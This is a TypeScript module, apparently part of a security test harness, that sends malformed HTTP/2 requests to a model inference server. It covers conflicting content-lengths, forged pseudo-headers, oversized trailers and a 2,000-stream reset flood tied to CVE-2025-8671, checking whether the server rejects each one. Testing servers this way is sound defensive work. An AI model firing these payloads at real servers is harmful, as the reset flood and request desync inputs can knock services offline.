import { type Attack, exchange, type Target } from "../attack.ts";
import { callHeaders, END_HEADERS, END_STREAM, FRAME, frame, headerBlock, PREFACE } from "../http2-frames.ts";

const MANY = 2_000;
/** With which a header block begins that says 200 (RFC 7541, appendix A). */
const STATUS_200 = 0x88;

type Headers = ReadonlyArray<readonly [string, string]>;

/** A request of REST, with headers in place of its own, or none of that name. */
function rest(
  target: Target,
  { path = "/v2/models", method = "GET", own = [] as Headers, without = "" },
): Headers {
  const key: Headers = callHeaders(target).filter(([name]) => name === "authorization");
  const all: Headers = [
    [":method", method],
    [":scheme", "http"],
    [":path", path],
    [":authority", "localhost"],
    ...key,
    ...own,
  ];
  return all.filter(([name]) => name !== without);
}

function opened(headers: Headers, flags = END_STREAM, stream = 1): Buffer {
  return frame({ type: FRAME.headers, flags: END_HEADERS | flags, stream, payload: headerBlock(headers) });
}

function data(bytes: number, flags = END_STREAM, stream = 1): Buffer {
  return frame({ type: FRAME.data, flags, stream, payload: Buffer.alloc(bytes, 0x20) });
}

const infer = (target: Target, own: Headers): Headers =>
  rest(target, {
    path: `/v2/models/${target.model}/infer`,
    method: "POST",
    own: [["content-type", "application/json"], ...own],
  });

const LONG_TRAILERS: Headers = Array.from({ length: 15 }, (_, i) => [`x-${i}`, "t".repeat(4_000)]);

/** What HTTP/2 allows no request, or what two readers could read in two ways. */
const WRONG: ReadonlyArray<readonly [name: string, make: (target: Target) => Buffer[]]> = [
  ["a longer body than its length", (t) => [opened(infer(t, [["content-length", "2"]]), 0), data(30)]],
  ["a shorter body than its length", (t) => [opened(infer(t, [["content-length", "30"]]), 0), data(2)]],
  [
    "two lengths",
    (t) => [
      opened(
        infer(t, [
          ["content-length", "2"],
          ["content-length", "3"],
        ]),
        0,
      ),
      data(2),
    ],
  ],
  ["a length with a sign", (t) => [opened(infer(t, [["content-length", "+2"]]), 0), data(2)]],
  ["chunks", (t) => [opened(infer(t, [["transfer-encoding", "chunked"]]), 0), data(2)]],
  ["a header of connections", (t) => [opened(rest(t, { own: [["connection", "close"]] }))]],
  ["a name in capitals", (t) => [opened(rest(t, { own: [["X-Id", "1"]] }))]],
  ["a pseudo header that there is not", (t) => [opened(rest(t, { own: [[":status", "200"]] }))]],
  ["two names of a host", (t) => [opened(rest(t, { own: [["host", "other.example"]] }))]],
  ["CONNECT", (t) => [opened(rest(t, { method: "CONNECT", without: ":path" }))]],
  ["TRACE", (t) => [opened(rest(t, { method: "TRACE" }))]],
  ["a foreign page", (t) => [opened(infer(t, [["origin", "https://page.example"]]), 0), data(2)]],
  ["a URL of 64 KiB", (t) => [opened(rest(t, { path: `/${"u".repeat(60_000)}` }))]],
  [
    "trailers of 60 KiB",
    (t) => [
      opened(infer(t, []), 0),
      data(2, 0),
      frame({
        type: FRAME.headers,
        flags: END_STREAM,
        stream: 1,
        payload: headerBlock(LONG_TRAILERS.slice(0, 4)),
      }),
      ...[4, 8, 12].map((from) =>
        frame({
          type: FRAME.continuation,
          flags: from === 12 ? END_HEADERS : 0,
          stream: 1,
          payload: headerBlock(LONG_TRAILERS.slice(from, from + 4)),
        }),
      ),
    ],
  ],
  ["trailers that are headers", (t) => [opened(infer(t, []), 0), data(2, 0), opened([[":path", "/v2"]])]],
];

/** A client that makes the server reset its streams (CVE-2025-8671): each costs more than it is worth. */
const RESETS: ReadonlyArray<readonly [name: string, make: (target: Target, stream: number) => Buffer[]]> = [
  [
    "windows of nothing",
    (t, stream) => [
      opened(infer(t, []), 0, stream),
      frame({ type: FRAME.window, stream, payload: Buffer.alloc(4) }),
    ],
  ],
  [
    "windows of too much",
    (t, stream) => [
      opened(infer(t, []), 0, stream),
      ...new Array<Buffer>(2).fill(
        frame({ type: FRAME.window, stream, payload: Buffer.from([0x7f, 255, 255, 255]) }),
      ),
    ],
  ],
  ["data behind the end", (t, stream) => [opened(infer(t, []), END_STREAM, stream), data(1, 0, stream)]],
  [
    "streams that depend on themselves",
    (t, stream) => [
      opened(infer(t, []), 0, stream),
      frame({ type: FRAME.priority, stream, payload: Buffer.from([0, 0, stream >> 8, stream & 255, 1]) }),
    ],
  ],
  [
    "bodies longer than their length",
    (t, stream) => [opened(infer(t, [["content-length", "0"]]), 0, stream), data(9, END_STREAM, stream)],
  ],
];

export const http2Rest: readonly Attack[] = [
  ...WRONG.map(
    ([name, make]): Attack => ({
      group: "REST over HTTP/2",
      name,
      holds: "a stream that is reset, or an error",
      async run(target) {
        const heard = await exchange(target, [PREFACE, ...make(target)], {
          isEnough: (text) => endOf(text) !== undefined,
        });
        const end = endOf(heard.text);
        if (end === undefined) return heard.isClosed ? "" : "the stream hangs";
        return end === "200" ? "it was answered as if it were right" : "";
      },
    }),
  ),
  ...RESETS.map(
    ([name, make]): Attack => ({
      group: "REST over HTTP/2",
      name: `made to reset: ${name}`,
      holds: "the connection is closed, or nobody else notices",
      async run(target) {
        const streams = Array.from({ length: MANY }, (_, i) => make(target, 2 * i + 1)).flat();
        const heard = await exchange(target, [PREFACE, Buffer.concat(streams)], {
          withinMs: 2_000,
          isEnough: (text) => text.length > 400_000,
        });
        return heard.isClosed || heard.text.length > 0 ? "" : "the server says nothing";
      },
    }),
  ),
];

/** How the first stream, or the whole connection, ends; undefined: it has not. */
function endOf(text: string): "200" | "error" | undefined {
  const bytes = Buffer.from(text, "latin1");
  for (let at = 0; at + 9 < bytes.length; at += 9 + bytes.readUIntBE(at, 3)) {
    const type = bytes[at + 3]!;
    if (type === FRAME.goaway || type === FRAME.reset) return "error";
    if (type === FRAME.headers) return bytes[at + 9] === STATUS_200 ? "200" : "error";
  }
  return undefined;
}
